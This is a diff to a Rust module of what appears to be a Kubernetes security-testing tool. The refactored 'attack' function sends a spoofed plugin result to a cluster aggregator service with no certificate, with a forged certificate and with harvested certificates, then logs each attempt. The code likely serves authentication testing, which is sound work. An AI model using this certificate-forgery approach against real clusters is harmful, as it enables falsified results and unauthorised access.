@@ -9,9 +9,9 @@ use reqwest::{Client, Identity};
 use tokio::net::TcpStream;
 use tokio::time::timeout;
 
+use super::super::AttackOptions;
 use super::credentials::Certificate;
-use super::report::{Attempt, Attempts};
-use crate::args::AttackArgs;
+use super::{Attempt, Attempts};
 
 /// How long one request may take.
 const PATIENCE: Duration = Duration::from_secs(60);
@@ -20,7 +20,12 @@ const PATIENCE: Duration = Duration::from_secs(60);
 const TRY_AGAIN: Duration = Duration::from_millis(500);
 
 /// Sends a result for the victim without a certificate, with one of a CA of our own, and with each that was found.
-pub(super) async fn attack(args: &AttackArgs, namespace: &str, found: &[Certificate], attempts: &mut Attempts) {
+pub(super) async fn attack(
+    options: &AttackOptions,
+    namespace: &str,
+    found: &[Certificate],
+    attempts: &mut Attempts<'_>,
+) {
     let address = format!("{}.{namespace}.svc:{}", names::AGGREGATOR_SERVICE, names::AGGREGATOR_PORT);
     // The Service may need a moment until every node knows it.
     let connected = timeout(PATIENCE, async {
@@ -33,17 +38,17 @@ pub(super) async fn attack(args: &AttackArgs, namespace: &str, found: &[Certific
             .add("connect to the aggregator", Attempt::Failed("nothing was tried: no connection".to_owned()));
     }
     let forged =
-        args.victim.parse().map_err(|_| "the victim is not a plugin".to_owned()).and_then(|victim| forge(&victim));
+        options.victim.parse().map_err(|_| "the victim is not a plugin".to_owned()).and_then(|victim| forge(&victim));
     let mut identities =
         vec![("no certificate".to_owned(), Ok(None)), ("a forged certificate".to_owned(), forged.map(Some))];
     identities.extend(found.iter().map(|one| (one.found.clone(), Ok(Some(one.pem.clone())))));
-    let url = format!("https://{address}/api/v1/results/global/{}", args.victim);
+    let url = format!("https://{address}/api/v1/results/global/{}", options.victim);
     for (with, pem) in identities {
         let attempt = match pem {
             Ok(pem) => send(&url, pem.as_deref()).await,
             Err(why) => Attempt::Failed(why),
         };
-        attempts.add(format!("send a result of `{}` with {with}", args.victim), attempt);
+        attempts.add(format!("send a result of `{}` with {with}", options.victim), attempt);
     }
 }
 
